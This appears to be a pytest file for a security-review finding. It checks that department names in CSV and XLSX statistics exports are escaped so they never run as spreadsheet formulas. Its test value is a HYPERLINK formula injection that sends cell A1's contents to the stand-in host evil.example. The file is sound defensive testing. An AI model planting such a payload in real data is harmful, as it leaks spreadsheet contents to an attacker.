"""Finding 11 of the security review: names in exports (departments, categories, regions —
some from GeoJSON imports) never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from server.organisation.models import Department
from tests.factories import insert_cases

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
PARAMS = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "department"}


@pytest.fixture
def hostile_department(demo):
    Department.objects(code="371083-cgj").update(set__name=HOSTILE)
    insert_cases(2, due=True, closed=True)


def export(as_user, fmt):
    response = as_user("supervisor").get("/api/v1/stats/export", query_string={**PARAMS, "format": fmt})
    assert response.status_code == 200
    return response.data


def test_a_formula_in_a_name_is_inert_text_in_the_csv(as_user, hostile_department):
    rows = list(csv.reader(io.StringIO(export(as_user, "csv").decode("utf-8-sig"))))
    assert rows[1][1] == "'" + HOSTILE


def test_a_formula_in_a_name_is_a_string_cell_in_the_xlsx(as_user, hostile_department):
    sheet = load_workbook(io.BytesIO(export(as_user, "xlsx"))).active
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    from server.extensions.tables import inert
    assert inert(start + "1+1") == "'" + start + "1+1"
